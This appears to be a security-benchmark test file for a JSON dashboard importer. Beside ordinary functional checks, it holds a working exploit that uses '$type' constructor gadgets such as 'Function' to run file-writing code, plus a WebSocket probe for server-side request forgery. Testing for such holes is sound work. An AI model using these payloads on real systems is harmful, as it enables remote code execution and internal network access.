import assert from 'node:assert/strict'
import { once } from 'node:events'
import { existsSync, rmSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Breach } from '#proof/vary'

type Code = typeof import('./dashboard-import.ts')

const log = { info() {} } as never

export function works({ importDashboard, DateRange, Threshold, ImportError }: Code) {
  const { title, filters } = importDashboard(
    JSON.stringify({
      title: 'Sales',
      filters: [
        { $type: 'DateRange', args: ['2026-01-01', '2026-01-31'] },
        { $type: 'Threshold', args: ['orders', 10] },
        { $type: 'URL', args: ['https://example.com/'] },
        { $type: 'Intl.NumberFormat', args: ['de-DE'] },
        'plain',
      ],
    }),
    'ada',
    log,
  )
  assert.equal(title, 'Sales', 'The title should be read.')
  const kinds = filters[0] instanceof DateRange && filters[1] instanceof Threshold && filters[2] instanceof URL
  assert.ok(kinds, 'Filters of the types DateRange, Threshold and URL should become objects of these types.')
  assert.equal((filters[3] as Intl.NumberFormat).format(1.5), '1,5', 'A filter of the type Intl.NumberFormat should become a number format.')
  assert.throws(() => importDashboard('{"title":"x","filters":[{"$type":"Nothing","args":[]}]}', 'ada', log), ImportError, 'An unknown type should be refused with ImportError.')
  assert.throws(() => importDashboard('{"title":"x"}', 'ada', log), ImportError, 'A dashboard without filters should be refused with ImportError.')
}

function attempt({ importDashboard }: Code, dashboard: object) {
  try {
    importDashboard(JSON.stringify(dashboard), 'mallory', log)
  } catch {
    // What counts is what happened before.
  }
}

/** A file that makes the server write a file, or connect to a service that only it can reach. */
export async function exploit(code: Code): Promise<Breach | false> {
  rmSync('owned.txt', { force: true })
  const body = `process.getBuiltinModule('node:fs').writeFileSync('owned.txt', '')`
  for (const $type of ['Function', 'Object.constructor', 'DateRange.constructor', 'URL.constructor', 'Intl.NumberFormat.constructor']) {
    const title = { toString: { $type, args: [body] } }
    attempt(code, { title, filters: [] })
    if (existsSync('owned.txt')) return { sent: JSON.stringify({ title }), got: 'the file owned.txt on the server: the sender of a dashboard runs code there' }
  }

  let connections = 0
  const server = createServer((socket) => {
    connections++
    socket.destroy()
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  attempt(code, { title: 'x', filters: [{ $type: 'WebSocket', args: [`ws://127.0.0.1:${port}/`] }] })
  for (let i = 0; i < 20 && connections === 0; i++) await wait(25)
  server.close()
  if (connections === 0) return false
  return { sent: `a filter of the type WebSocket for port ${port} of the server itself`, got: `${connections} connection to a service that only the server can reach` }
}
